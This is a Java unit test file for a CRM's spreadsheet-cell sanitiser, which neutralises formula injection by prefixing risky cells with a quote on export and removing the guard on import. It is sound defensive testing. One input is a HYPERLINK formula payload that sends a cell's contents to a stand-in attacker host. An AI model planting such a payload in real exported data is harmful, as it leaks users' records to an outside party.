package org.sencrm.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;

class SpreadsheetCellTest {

	@Test
	void textThatWouldStartAFormulaGetsALeadingQuote() {
		assertThat(SpreadsheetCell.of("=HYPERLINK(\"http://evil.test/?\"&D2,\"Open\")").text())
				.isEqualTo("'=HYPERLINK(\"http://evil.test/?\"&D2,\"Open\")");
		assertThat(SpreadsheetCell.of("+1+1").text()).isEqualTo("'+1+1");
		assertThat(SpreadsheetCell.of("-2+3").text()).isEqualTo("'-2+3");
		assertThat(SpreadsheetCell.of("@SUM(A1)").text()).isEqualTo("'@SUM(A1)");
		assertThat(SpreadsheetCell.of("\t=1").text()).isEqualTo("'\t=1");
		assertThat(SpreadsheetCell.of("\r=1").text()).isEqualTo("'\r=1");
	}

	@Test
	void phonesInE164AreNeutralisedLikeAnyOtherText() {
		assertThat(SpreadsheetCell.of("+84901234567").text()).isEqualTo("'+84901234567");
	}

	@Test
	void ordinaryTextNumbersAndEmptyCellsStayAsTheyAre() {
		assertThat(SpreadsheetCell.of("Nguyễn Văn An").text()).isEqualTo("Nguyễn Văn An");
		assertThat(SpreadsheetCell.of("an=b@example.vn").text()).isEqualTo("an=b@example.vn");
		assertThat(SpreadsheetCell.of(42).text()).isEqualTo("42");
		assertThat(SpreadsheetCell.of(null).text()).isEmpty();
		assertThat(SpreadsheetCell.of("").text()).isEmpty();
	}

	@Test
	void aRowNeutralisesEveryCellAndPrintsAsItsText() {
		var row = SpreadsheetCell.row(Arrays.asList("=1", null, "x"));

		assertThat(row).extracting(SpreadsheetCell::toString).isEqualTo(List.of("'=1", "", "x"));
	}

	@Test
	void theImportTakesOffExactlyTheGuardTheExportPutOn() {
		assertThat(SpreadsheetCell.unguarded("'=HYPERLINK(1)")).isEqualTo("=HYPERLINK(1)");
		assertThat(SpreadsheetCell.unguarded("'+84901234567")).isEqualTo("+84901234567");
		assertThat(SpreadsheetCell.unguarded("'-2")).isEqualTo("-2");
		assertThat(SpreadsheetCell.unguarded("'@SUM(A1)")).isEqualTo("@SUM(A1)");
		assertThat(SpreadsheetCell.unguarded("'\t=1")).isEqualTo("\t=1");
		assertThat(SpreadsheetCell.unguarded("'\r=1")).isEqualTo("\r=1");
	}

	@Test
	void aQuoteThatGuardsNothingStaysOnImport() {
		assertThat(SpreadsheetCell.unguarded("'tis the season")).isEqualTo("'tis the season");
		assertThat(SpreadsheetCell.unguarded("'")).isEqualTo("'");
		assertThat(SpreadsheetCell.unguarded("Nguyễn")).isEqualTo("Nguyễn");
		assertThat(SpreadsheetCell.unguarded("")).isEmpty();
		assertThat(SpreadsheetCell.unguarded(null)).isNull();
	}

	@Test
	void aTextThatLooksGuardedAlreadyGetsOneMoreQuoteAndComesBackWhole() {
		assertThat(SpreadsheetCell.neutralised("'=1")).isEqualTo("''=1");
		assertThat(SpreadsheetCell.neutralised("'tis")).isEqualTo("'tis");
		for (var text : List.of("=1", "'=1", "''+84", "'", "''", "'x", "x'", "-", "@", "\t", "a=b", "Trần Thị Bích", "'\r")) {
			assertThat(SpreadsheetCell.unguarded(SpreadsheetCell.neutralised(text))).as(text).isEqualTo(text);
		}
	}
}
